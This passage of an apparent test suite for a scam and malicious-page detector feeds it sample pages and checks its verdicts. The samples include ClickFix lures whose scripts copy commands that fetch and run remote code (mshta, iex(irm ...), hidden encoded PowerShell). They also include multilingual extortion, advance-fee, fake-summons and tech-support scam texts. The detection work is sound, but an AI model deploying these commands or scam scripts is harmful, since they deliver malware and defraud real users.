      ['a file share offering all files as a zip', 'https://files.kestrel-architects.com/s/9q', '<title>Site plan.pdf and 2 more files</title><h1>Maria shared 3 files</h1><a href="/s/9q/all.zip">Download all (ZIP)</a> <a href="/s/9q/site-plan.pdf">Site plan (PDF)</a>'],
      ['an IT page on why not to disable antivirus, with a tool download', 'https://it.northwind-traders.com/kb/vpn', '<h1>Installing the VPN client</h1><p>Never disable your antivirus to install software. If the installer is blocked, contact the service desk.</p><a href="/downloads/vpn-client.msi">Download VPN client</a>'],
    ];
    for (const [what, url, body] of malwareLookalikes) it(`stays clean: ${what}`, () => clean(judge(url, body)));

    it('ClickFix: a human check that copies a command built in the script (even one fetched at click time); other copy buttons beside a human check are not', () => {
      const fetched = judge('https://files-share.example/s/1', `<h3>One more step</h3><div id="v">Verify you are human</div><script>v.onclick=async()=>{const j=await (await fetch('/api/c')).json();await navigator.clipboard.writeText(j.payload+' # '+j.label);}</script>`);
      assert.ok(ids(fetched).includes('clipboard-script-text') && ids(fetched).includes('human-check-text'));
      assert.ok(fetched.decidedBy?.includes('combo:clickfix-scripted-copy'));
      const ru = judge('https://proverka.example/', `<h1>Подтвердите, что вы не робот</h1><p>Нажмите Win + R, затем Ctrl + V и Enter.</p><script>c.onclick=function(){var cmd='mshta https://proverka.example/v.hta # Я не робот';var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');}</script>`);
      assert.deepEqual(ru.categories.slice(0, 1), ['clickfix']);
    });

    it('ClickFix in the browser: a copied command decides beside a human check or Run steps, not alone (documentation copy buttons copy one-liners too)', () => {
      const docs = judge('https://brewline.example/', '<h1>Install Brewline</h1><code id="i">/bin/bash -c "$(curl -fsSL https://raw.example.org/install.sh)"</code><button data-copy="i">Copy</button><p>Paste that in a macOS Terminal.</p>', { clipboardWrites: ['/bin/bash -c "$(curl -fsSL https://raw.example.org/install.sh)"'] });
      assert.ok(ids(docs).includes('clipboard-shell-copied'));
      clean(docs);
      const scoop = judge('https://get.scoopline.example/', '<h1>Install Scoopline</h1><p>Open PowerShell (not as admin), paste the command and press Enter:</p><code id="c">irm get.scoopline.example | iex</code><button data-copy="c">Copy</button>', { clipboardWrites: ['irm get.scoopline.example | iex'] });
      clean(scoop);
      const font = judge('https://dental-blog.example/post', `<h1>The "HoeflerText" font wasn't found</h1><p>Right-click the Windows icon, select Windows PowerShell (Admin), paste the copied code and press Enter.</p><script>fix.onclick=function(){navigator.clipboard.writeText('powershell -NoP -W Hidden -enc ' + p)}</script>`);
      assert.ok(font.decidedBy?.includes('combo:clickfix-pretext'));
      const gate = judge('https://gate.example/', '<h1>Verify you are human</h1><div id="b">I am not a robot</div>', { clipboardWrites: ['powershell -w h -c "iex(irm https://gate.example/a)"'] });
      assert.ok(gate.decidedBy?.includes('combo:clickfix-copied'));
      const checksum = judge('https://brewline.example/verify', '<h1>Install Brewline</h1><h2>Verification steps</h2><p>Security check: compare the installer checksum. Paste this in a Terminal:</p><code id="i">curl -fsSL https://get.brewline.example | sh</code><button data-copy="i">Copy</button>', { clipboardWrites: ['curl -fsSL https://get.brewline.example | sh'] });
      clean(checksum);
    });

    const clickfixLookalikes: [string, string, string][] = [
      ['a challenge page copying its Ray ID', 'https://forum.example.org/cdn-cgi/challenge', `<title>Just a moment...</title><h2>Verify you are human by completing the action below.</h2><p>Ray ID: <code>8f3a1c29be7d41e2</code> <button id="c">Copy</button></p><script>var ray='8f3a1c29be7d41e2';c.onclick=function(){navigator.clipboard.writeText(ray)}</script>`],
      ['a paste site with a captcha and a copy button for the paste', 'https://paste.example.net/new', `<h1>New paste</h1><textarea id="paste"></textarea><div class="g-recaptcha"></div><p>I'm not a robot</p><button onclick="navigator.clipboard.writeText(document.getElementById('paste').value)">Copy</button>`],
      ['a French KB article: Win+R and a copy button for a local command', 'https://support.fournisseur.example/kb/dns', `<h1>Vider le cache DNS</h1><ol><li>Appuyez sur Windows + R, tapez cmd et appuyez sur Entrée.</li><li>Collez la commande puis appuyez sur Entrée.</li></ol><pre>ipconfig /flushdns</pre><button onclick="navigator.clipboard.writeText('ipconfig /flushdns')">Copier</button>`],
    ];
    for (const [what, url, body] of clickfixLookalikes) it(`stays clean: ${what}`, () => clean(judge(url, body)));

    it('scams: money to receive and a fee to pay first (lottery, job), in several languages; a refund desk asking for remote access; investment promises; alarms with a number to call', () => {
      const lottery = judge('https://premios-intl.example/reclamo/77', '<h1>Notificación de premio</h1><p>Usted ha ganado 850.000 € en nuestro sorteo internacional.</p><p>Para liberar el pago, la tasa de liberación de 495 € debe pagarse antes de la transferencia.</p>');
      assert.ok(ids(lottery).includes('payout-promise-text') && ids(lottery).includes('upfront-fee-text'));
      assert.ok(lottery.decidedBy?.includes('combo:advance-fee'));
      const job = judge('https://remote-jobs-hiring.example/offer', '<h1>Congratulations, you have been hired!</h1><p>Your starter kit fee of $89 must be paid before your first shift. Pay by gift card.</p>');
      assert.ok(job.decidedBy?.includes('combo:advance-fee'));
      const refund = judge('https://refund-desk.example/', '<h1>Order confirmation</h1><p>Your subscription of $399.99 has been renewed. If you did not authorise this charge, download AnyDesk and give the 9-digit code to your refund agent.</p>');
      assert.ok(ids(refund).includes('remote-access-text'));
      assert.ok(refund.decidedBy?.includes('combo:refund-remote-access'));
      const invest = judge('https://finanz-news.example/exklusiv', '<h1>TV-Moderator verrät, wie er 28.000 € im Monat verdient</h1><p>Der Algorithmus handelt vollautomatisch für Sie, mit einer Erfolgsquote von 99,4 %. Mindesteinzahlung 250 €.</p>');
      assert.ok(invest.decidedBy?.includes('combo:investment-scam'));
      const alarm = judge('https://avviso-sicurezza.example/', '<h1>Il tuo computer è stato bloccato</h1><p>Virus rilevato: Trojan Spyware. Chiama l\'assistenza Microsoft: 800 123 456</p><script>window.onbeforeunload=function(){return "?"}</script>');
      for (const id of ['tech-support-text', 'support-phone-number', 'scareware-behaviour']) assert.ok(ids(alarm).includes(id), id);
      assert.deepEqual(alarm.categories.slice(0, 1), ['scam']);
    });

    it('the recovery room: a buyer "has made an offer for your credits", subject to paying a licence fee first, is an advance fee', () => {
      decides('advance-fee', 'https://green-carbon-desk.example/clients/offer', '<h1>Client desk</h1><p>Existing clients: a buyer from a Dutch energy company has made an offer for your credits at £31.20, subject to paying the EU transfer licence fee of £2,400.</p>');
    });

    it('scams in Indonesian, Vietnamese, Hindi, Chinese and Arabic: money to receive and a fee to pay first; a task scam that takes a deposit; a browser alarm in Thai', () => {
      decides('advance-fee', 'https://dana-kilat.example/pengajuan', '<h1>Pinjaman Anda telah disetujui!</h1><p>Dana Rp 15.000.000 siap dicairkan. Biaya administrasi Rp 350.000 harus ditransfer terlebih dahulu sebelum dana dicairkan ke rekening Anda.</p>');
      decides('advance-fee', 'https://vay-nhanh.example/ho-so', '<h1>Khoản vay của bạn đã được duyệt</h1><p>Vui lòng nộp phí bảo hiểm khoản vay 1.200.000đ trước khi giải ngân.</p>');
      decides('advance-fee', 'https://like-earn.example/join', '<h1>घर बैठे रोज़ ₹3000 कमाएं</h1><p>हर like पर ₹50! Free tasks के बाद merchant tasks: आप amount deposit करते हैं और 30 मिनट में 30% profit के साथ वापस मिलता है।</p>');
      decides('advance-fee', 'https://jiedai-kuai.example/', '<h1>恭喜您获得贷款资格</h1><p>您的贷款已批准，需先缴纳保证金2000元才能提现。</p>');
      decides('advance-fee', 'https://jawaez-online.example/', '<h1>مبروك! لقد ربحت جائزة 50,000 دولار</h1><p>يجب دفع رسوم التحويل 250 دولار قبل استلام الجائزة.</p>');
      decides('tech-support-scam', 'https://th-alert.example/', '<h1>คอมพิวเตอร์ของคุณติดไวรัส</h1><p>โทรหาฝ่ายสนับสนุน Microsoft ทันที: 1-888-555-0144</p>');
      // A lender that says it charges nothing before the money arrives is the opposite of the scam.
      clean(judge('https://www.pinjam-aman.example/cara', '<h1>Cara mengajukan pinjaman</h1><p>Pengajuan Anda disetujui dalam 1 hari kerja. Kami tidak pernah meminta biaya administrasi yang harus dibayar sebelum dana dicairkan.</p>'));
    });

    it('money to receive written in any currency the growth numbers know (a grant in cedis), and a fee a regulation "requires" before the loan is paid out', () => {
      decides('advance-fee', 'https://startup-grant-gh.example/register', '<h1>Start-up grant 2026: GH₵ 5,000 start-up grant for young entrepreneurs</h1><p>You are eligible! To process your grant, pay the GH₵ 150 application processing fee by MoMo.</p>');
      decides('advance-fee', 'https://quick-loan-ng.example/apply', '<h1>Your loan of ₦300,000 has been approved!</h1><p>Regulations require every borrower to pay a refundable loan insurance fee of 2.5%.</p>');
      // A grant page that asks nothing first stays clean.
      clean(judge('https://www.youth-fund.example/grants', '<h1>GH₵ 5,000 start-up grant for young entrepreneurs</h1><p>Applications are free. Shortlisted applicants are invited to an interview in their region.</p>'));
    });

    it('Latin American wording: a release fee that "é necessário" pay first, a robot with "99,4% de precisión" and "trading automático", a flood appeal paid to a Pix key that is a person\'s CPF', () => {
      decides('advance-fee', 'https://consulta-valores.example/resultado', '<h1>Valores a receber</h1><p>Você tem valores a receber: R$ 2.847,13 serão creditados via Pix.</p><p>Para o resgate é necessário o pagamento da Taxa de Liberação de R$ 38,70.</p>');
      decides('investment-scam', 'https://robot-ia.example/registro', '<h1>Ganá con IA</h1><p>Trading automático con 99,4% de precisión.</p><p>Depósito inicial: USD 250.</p>');
      const appeal = judge('https://sos-enchentes.example/', '<h1>Doe agora para as vítimas das enchentes</h1><p>Milhares de famílias perderam tudo. Campanha independente.</p><p>Chave Pix (CPF) da coordenadora: 047.812.336-09 Juliana Martins</p>');
      assert.ok(ids(appeal).includes('private-payee-text'), JSON.stringify(ids(appeal)));
      // The tax office paying a refund to the visitor's own Pix key names no payee.
      const refund = judge('https://www.gov.br/receitafederal/restituicao', '<h1>Restituição</h1><p>A restituição é paga na chave Pix do tipo CPF do contribuinte.</p>');
      assert.ok(!ids(refund).includes('private-payee-text'), JSON.stringify(ids(refund)));
    });

    it('a fully funded bursary whose fee goes to a mobile wallet\'s phone number is a scam; a shop taking mobile money to its number is not', () => {
      decides('private-payee', 'https://youth-bursaries.example/apply', '<h1>2026 Full Bursary Programme</h1><p>Tuition, accommodation and a monthly allowance.</p><p>Pay the R250 processing fee by eWallet to 079 204 6613 and upload the proof.</p>');
      const shop = judge('https://www.kofi-fabrics.example/checkout', '<title>Kofi Fabrics</title><h1>Kofi Fabrics – checkout</h1><p>Kente cloth, 6 yards: GH₵ 850</p><p>Pay with MTN MoMo to 024 412 3456, reference your order number.</p>');
      clean(shop);
    });

    it('Nordic wording: a Danish browser alarm that says to ring Microsoft, a Norwegian "sikkerhetskonto" with its account number and "do not mention this to the bank"', () => {
      decides('tech-support-scam', 'https://pc-advarsel.example/', '<h1>Din pc er blokeret</h1><p>Der er fundet en trojaner. Ring til Microsoft support nu: +45 70 20 11 88</p>');
      decides('safe-account', 'https://kundesak-sikring.example/sak', '<h1>Sikring av dine midler</h1><p>Flytt sparepengene til din midlertidige sikkerhetskonto 1207 55 31874 i dag.</p><p>Ikke nevn dette for banken.</p>');
      // A bank's own warning names the same account and tells to call the bank, not to keep quiet.
      const warning = judge('https://www.dnb-eksempel.example/svindel', '<h1>Svindel</h1><p>Banken ber deg aldri flytte penger til en sikkerhetskonto. Ring oss hvis noen ber deg om det.</p>');
      clean(warning);
    });

    it("a money-transfer service's own page names itself as the way to pay; the same words on another host are a way no bank reverses", () => {
      const body = '<h1>Review your transfer</h1><p>Send via Western Union to the receiver. Keep the MTCN (control number) and the sender\'s name for pickup.</p>';
      assert.ok(!ids(judge('https://www.westernunion.com/us/en/web/send-money/review', body)).includes('untraceable-payment-text'));
      assert.ok(ids(judge('https://parcel-release-desk.example/pay', body)).includes('untraceable-payment-text'));
    });

    it('Tagalog and Swedish wording: "Nanalo ka" with a fee to pay "para ma-release" the prize is an advance fee; "Svara på 3 frågor" for a gift card worth 5 000 kr is a prize promise; so is pay per app rating in pesos', () => {
      decides('advance-fee', 'https://pasko-raffle.example/claim', '<h1>Pamaskong Raffle</h1><p>Nanalo ka ng ₱15,000!</p><p>Magbayad ng ₱150 na handling fee para ma-release ang iyong premyo.</p>');
      const survey = judge('https://jubileum-enkat.example/', '<h1>Grattis!</h1><p>Svara på 3 frågor och vinn ett presentkort värt 5 000 kr.</p>');
      assert.ok(ids(survey).includes('payout-promise-text'), JSON.stringify(ids(survey)));
      // Pay per rating in pesos (a currency the growth numbers know) promises money as pay per task does.
      const rating = judge('https://rate-apps-ph.example/', '<h1>Earn ₱50 per app rating</h1><p>Instant GCash payout.</p>');
      assert.ok(ids(rating).includes('payout-promise-text'), JSON.stringify(ids(rating)));
      // A raffle that asks nothing before the prize is paid out is not an advance fee.
      clean(judge('https://www.pasko-raffle.example/results', '<h1>Pamaskong Raffle</h1><p>Nanalo ka ng ₱15,000! Kunin sa aming branch dala ang valid ID.</p>'));
    });

    it('a group-buy "as low as 30 % of the price" paid only by FPS transfer, in Chinese, shows fake-shop markers; a named shop\'s clearance paid by card does not', () => {
      const r = judge('https://hk-tuangou-club.example/mooncake', '<title>月餅團購 ｜ 低至 3 折</title><h1>中秋月餅團購</h1><p>原價 HK$398 HK$128</p><p>付款方法：只接受轉數快 FPS（唔收現金）</p><a href="https://wa.me/85291234567">WhatsApp 落單</a>');
      assert.ok(ids(r).includes('fake-shop-text'), JSON.stringify(ids(r)));
      const shop = judge('https://www.kingsway-home.example/sale', '<title>清倉特賣 | Kingsway Home</title><h1>Kingsway Home 年終清倉</h1><p>原價 HK$398 HK$298</p><p>付款方式：信用卡、PayMe</p>');
      assert.ok(!ids(shop).includes('fake-shop-text'), JSON.stringify(ids(shop)));
      clean(shop);
    });

    it('a loan "frozen" until an unfreezing fee is paid, in Chinese (fee after the obligation; the loan then paid to your card) is an advance-fee scam', () => {
      decides('advance-fee', 'https://h5.jiesuda-loan.example/#/order/detail', '<title>借款详情</title><p>订单状态 放款失败 · 资金已冻结</p><p>为证明您的还款能力，需缴纳借款金额 10% 的解冻验证金 ¥5,000 至平台监管账户。验证通过后，解冻金将与借款 50,000 元一并发放至您的银行卡。</p>');
    });

    it('a negation ends with its item in a row of badges: "Keine Vorkenntnisse nötig · 30 € pro Bewertung" promises pay per review; a job offered over WhatsApp on a topic-named host so is a scam', () => {
      const r = judge('https://bewertungsjob-homeoffice.example/', '<title>Nebenjob im Homeoffice</title><h1>Bewerten Sie Apps und Hotels von zu Hause</h1><p>Flexibler Nebenjob · Keine Vorkenntnisse nötig · Auszahlung täglich 30 € pro Bewertung</p><a href="https://wa.me/4915112345678">Jetzt per WhatsApp bewerben</a>');
      assert.ok(ids(r).includes('payout-promise-text'), JSON.stringify(ids(r)));
      assert.equal(r.verdict, 'malicious', `${r.verdict} ${r.decidedBy?.join(',')}`);
      const negated = judge('https://bewertungsjob-homeoffice.example/', '<title>Nebenjob im Homeoffice</title><h1>Bewerten Sie Apps und Hotels von zu Hause</h1><p>Flexibler Nebenjob, keine Auszahlung von 30 € pro Bewertung</p>');
      assert.ok(!ids(negated).includes('payout-promise-text'), JSON.stringify(ids(negated)));
    });

    it('investment pitches in Croatian and Bulgarian (an AI that trades for you, a minimum deposit, 14 places left), a Greek recovery firm taking an advance in USDT, and a fake exchange\'s withdrawal tax whose clause follows a word ending in "не" (not a negation) are scams', () => {
      decides('investment-scam', 'https://adriatic-capital.example/hr/', '<h1>Pustite umjetnoj inteligenciji da radi za vas</h1><p>Adriatic Capital AI automatski trguje kriptovalutama. Točnost algoritma 99,4 %. Minimalni polog samo 250 €.</p>');
      decides('investment-scam', 'https://btv-novini.bg-finansi.example/ikonomika/', '<h1>Водещият разкри как печели</h1><p>Платформата търгува вместо теб. Нашият журналист вложи минималните 250 €. Остават 14 свободни места.</p>');
      decides('fee-to-crypto-address', 'https://lexrecover.example/gr/', '<title>LexRecover – Ανάκτηση χαμένων κεφαλαίων</title><h1>Ανάκτηση χαμένων κεφαλαίων</h1><p>Για την έναρξη της νομικής διαδικασίας απαιτείται προκαταβολή δικαστικών εξόδων 10% του ποσού.</p><p>Καταθέστε σε USDT (TRC20): TQ7m2w1hYk4pZrJcA9xLbV6fN3sDuE8tGo</p>');
      decides('fee-to-crypto-address', 'https://m.bitnova.example/bg/account/assets', '<h1>Моят профил</h1><p>Депозит 5 000 USDT 12.09 Печалба от договор (Пол. 120s) + 26 888 USDT 17.10 Теглене Изтегли Тегленето е спряно Според политиката за борба с изпирането на пари преди първото теглене трябва да платите данък върху печалбата 15 %.</p><p>Депозитен адрес: TVx3qW9pJk2mL7nR4sYbC8dF1gHzE6uAoT</p>');
    });

    it('holiday rentals and pets taken off the platform: "do not contact us via other platforms" beside a receipt sent over WhatsApp, a Croatian host paid to "primatelj: Marija K." who asks not to pay via Booking, a breeder "not doing visits" who takes Apple gift cards; a family guesthouse booking direct by card is clean', () => {
      decides('refused-protection', 'https://villa-aegeanblue.example/en/book', '<h1>Villa Aegean Blue</h1><p>Book directly with the owners. Do not contact us via other platforms; their payment systems are not secure for this property.</p><p>Please transfer the 50 % deposit: IBAN LT62 3250 0913 4471 8820. Send the receipt on WhatsApp +30 694 412 0918.</p>');
      decides('messenger-handoff', 'https://apartmani-marija.weebly-site.example/', '<h1>Apartmani Marija</h1><p>Uplata: IBAN DE89 1001 1001 2628 4471 93 · primatelj: Marija K. · poziv na broj: datum dolaska.</p><p>Molimo ne uplaćivati preko Bookinga.</p><a href="https://wa.me/385917723310">WhatsApp</a>');
      decides('untraceable-payment', 'https://sunshine-cavoodles.example/available-puppies', '<h1>Available puppies</h1><p>Because of high demand we are not doing visits at the moment. Reserve your puppy with a $400 deposit by bank transfer, PayID or Apple gift cards.</p>');
      clean(judge('https://www.pension-seeblick.example/buchen', '<title>Pension Seeblick – direkt buchen</title><h1>Pension Seeblick</h1><p>Book direct and avoid booking fees: pay the deposit by card below.</p><form><input name="cc" autocomplete="cc-number"><button>Pay deposit</button></form>'));
    });

    it('a task paid "500 F" (CFA francs as francophone Africa writes them) beside a VIP recharge is a task scam; a telco\'s prize draw among customers who recharge, on its own host, asks no fee', () => {
      decides('advance-fee', 'https://tiktask.example/m/index.html', '<h1>Travail à domicile</h1><p>Aimez des vidéos pour nos annonceurs. Chaque tâche est payée 500 F.</p><p>VIP 1 : recharge 15 000 F pour débloquer 20 tâches par jour.</p>');
      const draw = '<title>Jeu Orange 25 ans – Règlement | Orange Sénégal</title><h1>Orange Sénégal</h1><p>Chaque recharge de crédit donne une chance au tirage. Les gagnants sont contactés par le 1413.</p>';
      clean(judge('https://www.orange.sn/jeux-concours/orange-25-ans', draw));
    });

    it('task scams: pay per task or order beside a recharge to unlock it, in English, French, Spanish and German; a microtask marketplace and a phone top-up stay clean', () => {
      decides('advance-fee', 'https://clickrate-jobs.example/#/pages/task', '<h1>RateHub</h1><p>Balance $412.30</p><p>Level 2 — 60 tasks/day, $1.20 per task. Recharge $300 to upgrade.</p>');
      decides('advance-fee', 'https://avis-hotels-partenaires.example/#/login', '<h1>Espace partenaire</h1><p>Notez des hôtels et gagnez des commissions chaque jour. Niveau Or : recharge de 500 USDT.</p>');
      decides('advance-fee', 'https://resenas-premium.example/app', '<h1>Centro de tareas</h1><p>Gana comisiones diarias valorando productos. Nivel VIP2: recarga 200 USDT.</p>');
      decides('advance-fee', 'https://bewertungs-job.example/start', '<h1>Willkommen im Team</h1><p>Verdienen Sie Provision für jede Aufgabe: 0,60 € pro Aufgabe. Um Ihr Guthaben auszuzahlen, laden Sie zuerst 150 € per Recharge auf.</p>');
      // Read as words: a task and an amount, a deposit and what it unlocks (Spanish, Japanese).
      decides('advance-fee', 'https://empleo-remoto.example/oferta', '<h1>Trabajo desde casa</h1><p>Solo tienes que dar "me gusta" a vídeos. Cada tarea se paga 3 € y recibes tu sueldo el mismo día.</p><p>Las tareas premium requieren un depósito reembolsable para desbloquear pedidos.</p>');
      decides('advance-fee', 'https://fukugyo.example/lp/', '<h1>スマホで簡単副業</h1><p>YouTube動画に「いいね」するだけ！1件300円〜</p><p>VIPタスクは事前のチャージが必要です。</p>');
      // A game's top-up page unlocks VIP for a deposit but pays nothing per task.
      clean(judge('https://www.juego-estrellas.example/recarga', '<h1>Recarga de diamantes</h1><p>Completa tareas diarias y gana 50 diamantes. Recarga 9,99 € para desbloquear el pase VIP.</p>'));
      clean(judge('https://www.microtask-market.example/workers', '<h1>Work on your schedule</h1><p>Pick tasks you like. Typical pay is $0.05 to $0.40 per task, set by each requester. Payouts go to your bank once your balance reaches $5. You never pay to work here.</p>'));
      clean(judge('https://www.netmobile.example/top-up', '<h1>Top up your phone</h1><p>Recharge $10 and get 5 GB of data, valid for 30 days. Pay by card.</p>'));
    });

    it('an alarm in Japanese that names the malware before "infected"; a police "investigation" in Malay telling the visitor to move all their savings to a trust account and tell nobody; a Malaysian bank warning about it stays clean', () => {
      decides('tech-support-scam', 'https://pc-keikoku.example/jp/', '<title>セキュリティ警告</title><h1>お使いのパソコンは悪質なスパイウェアに感染しています</h1><p>直ちにサポートにお電話ください: 050-1234-5678</p><script>window.onbeforeunload=function(){return "?"}</script>');
      decides('safe-account', 'https://semakan-kes.example/kes/', '<h1>Notis Siasatan</h1><p>Akaun anda dikaitkan dengan pengubahan wang haram. Sila pindahkan semua simpanan ke akaun amanah siasatan untuk semakan.</p><p>Jangan maklumkan kepada sesiapa termasuk ahli keluarga.</p>');
      clean(judge('https://www.bank-semenanjung.example/keselamatan', `<h1>Waspada penipuan Macau</h1><p>${'Penipuan ini bermula dengan panggilan daripada "polis". Mangsa diminta memindahkan semua simpanan ke akaun amanah. Polis dan bank tidak akan meminta anda berbuat demikian. '.repeat(4)}</p>`));
    });

    it('tech-support alarms and calls are read as words, not phrasings: a device and its state, a threat and its detection, a call and whom to call, in Portuguese and Korean; a vendor\'s help article stays clean', () => {
      decides('tech-support-scam', 'https://suporte-icloud.example/ios/', '<title>Aviso</title><h1>O seu iPhone foi comprometido</h1><p>Detetámos 5 vírus que estão a danificar o sistema. Contacte o Suporte: +351 308 804 211</p>');
      decides('tech-support-scam', 'https://pc-check.example/', '<title>경고</title><p>귀하의 컴퓨터에서 랜섬웨어(Ransom.Win32.Locky) 가 감지되었습니다. 즉시 원격 보안센터로 연락하여 치료를 받으세요. ☎ 070-4786-2291</p>');
      clean(judge('https://www.av-vendor.example/ko/help/ransomware', `<h1>랜섬웨어 감지 시 대처 방법</h1><p>${'제품이 랜섬웨어를 감지하면 자동으로 격리합니다. 랜섬웨어 공격자는 파일을 암호화합니다. 문의 사항은 고객센터로 연락하십시오. '.repeat(4)}</p>`));
    });

    it('extortion: access to the visitor\'s camera, a threat to send the video to their contacts and deletion once paid, beside a bitcoin address; a fake police summons with a fine in PCS coupons; an article about sextortion stays clean', () => {
      // In Japanese: the video sent to the visitor's contacts unless deleted for a payment, the police of no use.
      decides('extortion', 'https://notice-8812.example/n/1c9f27', '<title>あなたへの最終警告</title><h1>あなたのデバイスは私の管理下にあります</h1><p>この映像を削除してほしければ、15万円相当のビットコインを下記アドレスに送金してください。 bc1qz7v3h0k4s8l2m6xq9d5w0rjn4yt3e2f8ga6cpu</p><p>期限を過ぎた場合、映像はあなたの連絡先（家族、会社、友人）全員とSNSに送信されます。警察に相談しても無駄です。</p>');
      decides('extortion', 'https://account-notice.example/id/77/', '<h1>Your account has been hacked</h1><p>I have full access to your device and your camera. I recorded you while you were browsing. Send $1,200 in Bitcoin to bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax within 48 hours, or I will send the video to all your contacts. After receiving the payment I will delete everything.</p>');
      // The threat read as words (a verb of sending, whom it reaches); "if you do not want me to send…" is part of the threat, not a denial of it.
      decides('extortion', 'https://private-note.example/n/6f31', '<h1>Private note</h1><p>I gained access to your devices through a router vulnerability. If I do not receive payment, the video will be sent to your family and coworkers. Transfer $1,450 in Bitcoin: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>');
      decides('extortion', 'https://aviso-privado.example/u/4', '<h1>Tengo acceso a tu dispositivo</h1><p>Si no quieres que envíe el vídeo a tu familia y compañeros de trabajo, transfiere 1.200 € en Bitcoin a esta dirección: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>');
      decides('extortion', 'https://powiadomienie.example/x', '<h1>Mam dostęp do twojego komputera</h1><p>Jeśli nie zapłacisz, roześlę nagranie wszystkim twoim znajomym. Wpłać 900 USD w Bitcoin: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>');
      decides('extortion', 'https://convocation-justice.example/dossier/77', '<h1>CONVOCATION</h1><p>Vous faites l\'objet de plusieurs procédures judiciaires suite à une saisie informatique. Sans réponse sous 72 heures, transmission du dossier au procureur.</p><p>Le règlement de l\'amende de 2 900 € s\'effectue par coupons PCS à transmettre par e-mail.</p>');
      clean(judge('https://www.cyber-aware.example/advice/sextortion', `<h1>Sextortion emails: what to do</h1><p>${'The scammer claims: "I have full access to your device and recorded you. I will send the video to all your contacts unless you pay in Bitcoin." This is a scam and extortion: they have no video. Do not pay, report it to the police. '.repeat(3)}</p>`));
    });

    it('a review-bombing threat (contacting the police will make it worse, once paid it is cancelled) beside a bitcoin address is extortion; a soldier\'s leave that can only be approved after a fee, and a new hire told to buy equipment to be reimbursed, both paid in gift cards, are scams', () => {
      decides('extortion', 'https://reputation-desk.example/case/77/', '<h1>Case 77</h1><p>Our team has prepared 60 one-star reviews for your business profile. Cancellation fee: 0.015 BTC. Send to: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p><p>Once confirmed, the campaign is cancelled permanently. Contacting the police will cause immediate publication.</p>');
      decides('untraceable-payment', 'https://leave-request.peacekeeping-office.example/form/77', '<h1>Leave Application</h1><p>As per deployment regulations, leave can only be approved after the sponsor pays the leave processing fee of USD 2,750. Payment must be made by iTunes gift cards or Western Union to the Leave Office agent.</p>');
      decides('untraceable-payment', 'https://onboarding.peakcloud-systems.example/new-hire', '<h1>New hire onboarding</h1><p>To speed up shipping, new hires purchase the equipment package directly from the vendor; the full amount is reimbursed in your first paycheck. Accepted payment: Zelle, Bitcoin, or Apple Gift Cards (send photos of the card backs to your coordinator).</p>');
    });

    it('a police force or prosecutor on a host no government uses, threatening arrest and the press (German, verb last) or taking a fine in bitcoin, is a fake summons; a police force\'s own warning about such summons is not', () => {
      decides('authority-threat', 'https://akte-vorladung.example/az/2025-77', '<title>Bundeskriminalamt – Vorladung</title><h1>BUNDESKRIMINALAMT</h1><p>Gegen Sie wird wegen der Verbreitung kinderpornografischer Inhalte ermittelt. Andernfalls wird ein Haftbefehl erlassen und Ihre Daten an die Medien übermittelt.</p>');
      decides('authority-untraceable-payment', 'https://county-sheriff-bondpay.example/pay', '<title>Sheriff\'s Office - Bond Payment Instructions</title><h1>County Sheriff\'s Office</h1><p>Scan the county\'s secure wallet QR code and insert the cash: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>');
      decides('authority-untraceable-payment', 'https://dossier-plainte-police.example/convocation/84', '<title>CONVOCATION</title><h1>POLICE NATIONALE</h1><p>Pour un classement sans suite, une amende de 3 500 € peut être réglée en bitcoins à l\'adresse : bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>');
      clean(judge('https://www.polizei-nordstadt.example/warnung/falsche-vorladung', '<title>Warnung: falsche Vorladungen | Polizei Nordstadt</title><h1>Polizei Nordstadt</h1><p>Betrüger verschicken E-Mails im Namen des Bundeskriminalamts: Andernfalls werde ein Haftbefehl erlassen und Ihre Daten an die Medien übermittelt. Zahlen Sie nicht, die Polizei verlangt nie Bitcoin.</p><footer>© 2026 Polizei Nordstadt</footer>'));
    });

    it('Urdu, Bengali and Hindi: money approved and a fee to send first; a guaranteed job paid for by "Send Money" to a mobile wallet number; a shop taking bKash and a bank\'s warning stay clean', () => {
      decides('advance-fee', 'https://imdad-program.example/check', '<h1>امدادی پروگرام</h1><p>مبارک ہو! آپ کی 20,000 روپے کی امداد منظور ہو گئی ہے۔ رقم وصول کرنے کے لیے 900 روپے فیس ادا کریں۔</p>');
      decides('private-payee', 'https://chakri-circular.example/apply', '<h1>নিয়োগ বিজ্ঞপ্তি</h1><p>১০০% চাকরির গ্যারান্টি। আবেদন ফি ৫০০ টাকা বিকাশ "সেন্ড মানি" করুন: 01711-223344</p>');
      decides('advance-fee', 'https://loan-turant.example/', '<h1>आपका लोन मंजूर हो गया है</h1><p>राशि जारी होने से पहले 1,499 रुपये प्रोसेसिंग फीस जमा करें।</p>');
      clean(judge('https://www.dhaka-books.example/checkout', '<h1>চেকআউট</h1><p>মোট ৮৫০ টাকা। বিকাশ মার্চেন্ট নম্বর: 01711-223344 এ পেমেন্ট করুন।</p>'));
      clean(judge('https://www.bank-lahore.example/awareness', `<h1>فراڈ سے بچیں</h1><p>${'دھوکہ باز کہتے ہیں کہ آپ کی امداد منظور ہو گئی ہے اور رقم وصول کرنے کے لیے فیس مانگتے ہیں۔ حکومت کبھی فیس نہیں مانگتی۔ '.repeat(6)}</p>`));
    });

    it('a loan "without a credit check" is money to receive: beside a fee to pay before disbursement it is an advance-fee loan (English, Spanish); a lender\'s page that asks no fee first is not', () => {
      decides('advance-fee', 'https://quick-loan-approval.example/apply', '<h1>Personal loans with no credit check, up to $10,000.</h1><p>Pay the $149 insurance fee before the funds are released.</p>');
      decides('advance-fee', 'https://prestamo-rapido.example/', '<h1>Préstamos sin buró en 10 minutos</h1><p>Debe pagar la comisión de apertura de $900 antes de recibir el dinero.</p>');
      clean(judge('https://www.lender-plain.example/loans', '<h1>Loans without a credit check?</h1><p>We always run a soft credit check. There is no fee to apply; the origination fee is taken from the loan amount.</p><p>© 2026 Lender Plain</p>'));
    });

